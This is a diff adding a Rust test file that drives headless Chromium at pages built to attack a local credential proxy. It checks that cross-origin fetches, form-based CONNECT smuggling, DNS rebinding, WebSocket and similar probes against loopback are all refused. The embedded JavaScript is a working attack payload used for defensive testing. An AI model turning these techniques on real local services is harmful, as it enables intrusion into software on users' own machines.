@@ -1,0 +1,337 @@
+//! Pages in real headless Chromium, of the same user as the proxy: a page that attacks the proxy is
+//! refused and reaches nobody, and a browser that is told to use the proxy can.
+
+use std::{
+    net::TcpListener,
+    os::unix::process::CommandExt as _,
+    path::{Path, PathBuf},
+    process::{Child, Command, Stdio},
+    sync::mpsc,
+    thread,
+    time::Duration,
+};
+
+use rustix::process::{Pid, Signal, kill_process_group};
+
+use super::{
+    proxy_lab::{Client, Daemon, Next, Upstream, status},
+    support::{home::Home, program, skipped},
+};
+
+/// How long a page may take, and Chromium to start on a busy machine.
+const LIMIT: Duration = Duration::from_secs(120);
+
+/// A browser with a profile of its own; it ends with the value.
+struct Browser {
+    child: Child,
+    _home: Home,
+}
+
+impl Browser {
+    /// Opens a page. `None`: skipped.
+    fn open(url: &str, options: &[String]) -> Option<Self> {
+        Self::start(program("chromium", "chromium")?, &[], url, options)
+    }
+
+    /// The same, where these are the names of the machine. Needs root.
+    fn open_with_hosts(url: &str, options: &[String], hosts: &Path) -> Option<Self> {
+        let chromium = program("chromium", "chromium")?.display().to_string();
+        let unshare = program("unshare", "util-linux")?;
+        let works = Command::new(&unshare).args(["--mount", "true"]).output();
+        if !works.is_ok_and(|output| output.status.success()) {
+            skipped("only root can give a program other names");
+            return None;
+        }
+        let script = "mount --bind \"$0\" /etc/hosts && exec \"$@\"";
+        let hosts = hosts.display().to_string();
+        let before = ["--mount", "sh", "-c", script, &hosts, &chromium];
+        Self::start(unshare, &before, url, options)
+    }
+
+    fn start(program: PathBuf, before: &[&str], url: &str, options: &[String]) -> Option<Self> {
+        let home = Home::new();
+        let profile = format!("--user-data-dir={}", home.path().join("profile").display());
+        let run = home
+            .run(program)
+            .args(before.iter().copied())
+            .args([
+                "--headless",
+                "--no-sandbox",
+                "--disable-gpu",
+                "--disable-quic",
+                "--disable-dev-shm-usage",
+                "--no-first-run",
+                "--disable-background-networking",
+                "--disable-component-update",
+                "--disable-sync",
+                // What Chromium itself does against such pages is not what is tested.
+                "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,\
+                 PrivateNetworkAccessRespectPreflightResults,HttpsUpgrades,HttpsFirstBalancedMode",
+                &profile,
+            ])
+            .args(options.to_vec())
+            .arg(url);
+        let mut command = run.command();
+        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
+        let child = command.process_group(0).spawn().expect("chromium");
+        Some(Self { child, _home: home })
+    }
+}
+
+impl Drop for Browser {
+    fn drop(&mut self) {
+        let _ = kill_process_group(Pid::from_child(&self.child), Signal::KILL);
+        let _ = self.child.wait();
+    }
+}
+
+/// A web server that serves one page, and takes its report.
+fn site(page: String) -> (Upstream, mpsc::Receiver<String>) {
+    let (told, report) = mpsc::channel();
+    let server = Upstream::start(move |client, head| {
+        serve(client, head, &page, &told);
+        Next::Close
+    });
+    (server, report)
+}
+
+/// Answers as a web server, whatever the form of the target.
+fn serve(client: &mut Client, head: &str, page: &str, told: &mpsc::Sender<String>) {
+    let answer = |client: &mut Client, kind: &str, body: &str| {
+        client.send(format!(
+            "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\
+             Access-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n{body}",
+            body.len()
+        ));
+    };
+    let field = |line: &&str| line.to_ascii_lowercase().starts_with("content-length: ");
+    let length = head.lines().find(field).and_then(|line| line.split(' ').nth(1)?.parse().ok());
+    let body = client.exactly(length.unwrap_or(0));
+    let target = head.split(' ').nth(1).unwrap_or_default();
+    if target.ends_with("/report") {
+        answer(client, "text/plain", "thanks");
+        let _ = told.send(body);
+    } else if target.ends_with("/page") {
+        answer(client, "text/html", page);
+    } else {
+        answer(client, "text/plain", &format!("got {body:?}"));
+    }
+}
+
+/// Tries whatever a page can do to a port, and reports what it saw of the answers.
+const ATTACK: &str = r#"<!doctype html><meta charset="utf-8"><title>x</title><body>
+<iframe name="frame"></iframe>
+<script>
+const port = @PORT@;
+const seen = {};
+const wait = (ms) => new Promise((done) => setTimeout(done, ms));
+const limit = (work) => Promise.race([work, wait(5000).then(() => 'nothing in 5 s')]);
+const attempt = async (name, work) => {
+  try { seen[name] = String(await limit(work())); } catch (error) { seen[name] = 'error'; }
+};
+const look = async (response) => response.type + ' ' + response.status + ' ' + await response.text();
+const element = (tag, source) => new Promise((done) => {
+  const it = document.createElement(tag);
+  it[tag === 'link' ? 'href' : 'src'] = source;
+  if (tag === 'link') it.rel = 'stylesheet';
+  it.onload = () => done('loaded');
+  it.onerror = () => done('error');
+  document.body.append(it);
+});
+const form = (action, body) => new Promise((done) => {
+  const it = document.createElement('form');
+  Object.assign(it, { action, method: 'POST', enctype: 'text/plain', target: 'frame' });
+  const field = document.createElement('input');
+  field.name = body;
+  field.value = '';
+  it.append(field);
+  document.body.append(it);
+  document.querySelector('iframe').onload = () => {
+    try { done('read ' + window.frames.frame.document.body.innerText); } catch { done('error'); }
+  };
+  it.submit();
+});
+(async () => {
+  for (const host of ['127.0.0.1', 'localhost', 'rebound.test']) {
+    const at = `http://${host}:${port}`;
+    await attempt(host + ' fetch', async () => look(await fetch(at + '/')));
+    await attempt(host + ' no-cors', async () =>
+      look(await fetch(at + '/http://h.test/', { mode: 'no-cors', credentials: 'include' })));
+    await attempt(host + ' post', async () =>
+      look(await fetch(at + '/', { method: 'POST', mode: 'no-cors', body: '{"ask":"stop"}' })));
+    await attempt(host + ' preflight', async () => look(await fetch(at + '/', {
+      method: 'PUT', headers: { 'Content-Type': 'application/json', 'Proxy-Authorization': 'x' } })));
+    await attempt(host + ' xhr', () => new Promise((done, fail) => {
+      const it = new XMLHttpRequest();
+      it.open('POST', at + '/stop');
+      it.onload = () => done('read ' + it.responseText);
+      it.onerror = fail;
+      it.send('{"ask":"stop"}');
+    }));
+    await attempt(host + ' form', () =>
+      form(at + '/', '\r\nCONNECT h.test:443 HTTP/1.1\r\nHost: h.test\r\n\r\n'));
+    await attempt(host + ' img', () => element('img', at + '/quit'));
+    await attempt(host + ' script', () => element('script', at + '/proxy.pac'));
+    await attempt(host + ' link', () => element('link', at + '/x.css'));
+    await attempt(host + ' events', () => new Promise((done, fail) => {
+      const it = new EventSource(at + '/access.log');
+      it.onmessage = (event) => { it.close(); done('read ' + event.data); };
+      it.onerror = () => { it.close(); fail(); };
+    }));
+    await attempt(host + ' websocket', () => new Promise((done, fail) => {
+      const it = new WebSocket(`ws://${host}:${port}/`);
+      it.onopen = () => done('read');
+      it.onerror = fail;
+    }));
+    await attempt(host + ' beacon', async () => (navigator.sendBeacon(at + '/', 'x'), 'sent'));
+  }
+  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
+})();
+</script>"#;
+
+fn attack(through: impl Fn(&Daemon) -> Vec<String>, front: &str) {
+    let (home, upstream) = (Home::new(), Upstream::echo());
+    let mut daemon = Daemon::through(&home, &[&upstream]);
+    let page = ATTACK.replace("@PORT@", &daemon.address.port().to_string());
+    let (server, report) = site(page);
+    let rules = format!(
+        "--host-resolver-rules=MAP evil.test {}, MAP rebound.test 127.0.0.1",
+        server.address
+    );
+    let proxied = through(&daemon);
+    let has_proxy = !proxied.is_empty();
+    let options = [proxied, vec![rules]].concat();
+    let Some(_browser) = Browser::open(front, &options) else { return };
+    let told = report.recv_timeout(LIMIT).expect("the page reports");
+    let seen: std::collections::BTreeMap<String, String> =
+        serde_json::from_str(&told).expect("JSON");
+    assert_eq!(seen.len(), 36, "{seen:#?}");
+    for (name, what) in &seen {
+        // An opaque answer tells a page nothing; of the others it sees nothing at all.
+        let is_blind = ["error", "opaque 0 ", "sent"].contains(&what.as_str());
+        assert!(is_blind, "{name}: {what}");
+    }
+    // Chromium has requests of its own, which go through a proxy where it is told to use one.
+    let heads = upstream.heads();
+    let is_theirs = |head: &&String| {
+        ["h.test", "evil.test", "rebound.test", "127.0.0.1", "localhost"]
+            .iter()
+            .any(|at| head.contains(at))
+    };
+    assert_eq!(heads.iter().find(is_theirs), None);
+    assert!(has_proxy || heads.is_empty(), "{heads:?}");
+    // They did arrive.
+    let report = home.gocred().args(["proxy", "status", "--json"]).output().success();
+    let report: serde_json::Value = serde_json::from_str(&report).expect("JSON");
+    assert!(report["totals"]["refused"].as_u64().is_some_and(|refused| refused >= 30), "{report}");
+    assert!(daemon.child.try_wait().expect("a child").is_none(), "it has ended");
+    // The user's own programs are served as before.
+    let mut client = daemon.client();
+    client.send("CONNECT h.test:443 HTTP/1.1\r\nHost: h\r\n\r\n");
+    assert_eq!(status(&client.head().expect("an answer")), "200");
+}
+
+#[test]
+fn a_page_that_attacks_the_proxy_reaches_nobody() {
+    attack(|_| Vec::new(), "http://evil.test/page");
+}
+
+/// DNS rebinding: the name of the page has two addresses, and the one that the page came from takes no
+/// more connections. What we say is then, to the browser, the page's own.
+#[test]
+fn a_page_whose_name_leads_to_us_is_told_that_this_is_no_web_server() {
+    const PAGE: &str = "<!doctype html><script>
+        (async () => {
+          const seen = [];
+          for (const method of ['GET', 'POST', 'OPTIONS', 'PUT'])
+            try {
+              const answer = await fetch('/stop', { method, headers: { 'X-A': 'b' } });
+              seen.push(answer.status + ' ' + (await answer.text()).split('\\n')[0]);
+            } catch (error) { seen.push('error'); }
+          const body = seen.join('\\n');
+          await fetch('http://@REPORTS@/report', { method: 'POST', mode: 'no-cors', body });
+        })()</script>";
+    let (home, upstream) = (Home::new(), Upstream::echo());
+    home.write(".config/gocred/config.toml", "[proxy]\nallow = [\"127.0.0.0/8\"]\n");
+    // The resolver gives 127.0.0.1 first.
+    let run = home.gocred().args(["proxy", "run", "--listen", "127.0.0.9:0"]);
+    let daemon = Daemon::start(&run.args(["--upstream", &upstream.url()]));
+    let (reports, report) = site(String::new());
+    let page = PAGE.replace("@REPORTS@", &reports.address.to_string());
+    let port = daemon.address.port();
+    let listener = TcpListener::bind(("127.0.0.1", port)).expect("the same port");
+    thread::spawn(move || {
+        let mut page_is_served = false;
+        while !page_is_served {
+            let mut client = Client::on(listener.accept().expect("a browser").0);
+            // Browsers open connections that they do not use.
+            let Some(head) = client.head() else { continue };
+            page_is_served = head.contains("/page ");
+            serve(&mut client, &head, &page, &mpsc::channel().0);
+        }
+    });
+    let names = "127.0.0.1 localhost\n127.0.0.1 rebound.test\n127.0.0.9 rebound.test\n";
+    let names = home.write("hosts", names);
+    let options = ["--disable-features=AsyncDns".to_owned()];
+    let url = format!("http://rebound.test:{port}/page");
+    let Some(_browser) = Browser::open_with_hosts(&url, &options, &names) else { return };
+    let seen = report.recv_timeout(LIMIT).expect("the page reports");
+    assert_eq!(seen.lines().count(), 4, "{seen}");
+    for line in seen.lines() {
+        assert!(line.starts_with("421 gocred: "), "{seen}");
+    }
+    assert_eq!(upstream.connections(), 0);
+}
+
+/// The page comes through the proxy. Browsers go to loopback without one.
+#[test]
+fn a_page_that_came_through_the_proxy_reaches_nobody_behind_it() {
+    let via = |daemon: &Daemon| {
+        vec![
+            format!("--proxy-server=http://{}", daemon.address),
+            "--proxy-bypass-list=evil.test;rebound.test".to_owned(),
+        ]
+    };
+    attack(via, "http://evil.test/page");
+}
+
+const USE: &str = r#"<!doctype html><body><script>
+(async () => {
+  const seen = [];
+  const text = async (work) => { try { return await (await work).text(); } catch { return 'error'; } };
+  seen.push(await text(fetch('http://api.test/get')));
+  seen.push(await text(fetch('http://api.test/post', { method: 'POST', body: 'body' })));
+  seen.push(await text(fetch('/own', { method: 'PUT', body: 'x'.repeat(200000) })));
+  await new Promise((done) => {
+    const it = new WebSocket('ws://socket.test/');
+    it.onopen = it.onerror = done;
+  });
+  const all = await Promise.all([...Array(40).keys()].map((n) => text(fetch('http://api.test/' + n))));
+  seen.push(String(all.filter((one) => one === 'got ""').length));
+  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
+})();
+</script>"#;
+
+#[test]
+fn a_browser_that_is_told_to_use_the_proxy_can() {
+    let (told, report) = mpsc::channel();
+    let upstream = Upstream::start(move |client, head| {
+        if head.starts_with("CONNECT ") {
+            client.send("HTTP/1.1 200 ok\r\n\r\n");
+            return Next::Again;
+        }
+        serve(client, head, USE, &told);
+        Next::Close
+    });
+    let home = Home::new();
+    let daemon = Daemon::through(&home, &[&upstream]);
+    let options = [format!("--proxy-server=http://{}", daemon.address)];
+    let Some(_browser) = Browser::open("http://site.test/page", &options) else { return };
+    let seen = report.recv_timeout(LIMIT).expect("the page reports");
+    let seen: Vec<String> = serde_json::from_str(&seen).expect("JSON");
+    assert_eq!(seen[..2], ["got \"\"", "got \"body\""]);
+    assert_eq!((seen[2].len(), seen[3].as_str()), (200_006, "40"));
+    let heads = upstream.heads();
+    let socket = heads.iter().any(|head| head.starts_with("CONNECT socket.test:80 "));
+    assert!(socket, "the WebSocket has its tunnel: {heads:?}");
+}
